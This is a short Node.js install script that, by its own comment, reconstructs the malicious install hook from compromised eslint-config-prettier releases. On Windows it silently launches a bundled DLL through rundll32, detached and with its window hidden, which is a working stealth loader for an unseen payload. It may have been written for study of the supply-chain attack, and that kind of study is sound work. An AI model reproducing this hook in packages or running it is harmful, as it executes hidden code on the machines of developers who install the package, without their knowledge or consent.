'use strict';
// The shape of eslint-config-prettier 8.10.1 / 9.1.1 (July 2025): on Windows only, the
// install script hands a DLL shipped in the package to rundll32. Elsewhere it exits.
const path = require('path');
const os = require('os');
const { spawn } = require('child_process');

if (os.platform() === 'win32') {
  const dll = path.join(__dirname, 'node-gyp.dll');
  const child = spawn('rundll32', [dll + ',main'], { detached: true, stdio: 'ignore', windowsHide: true });
  child.on('error', () => {});
  child.unref();
}
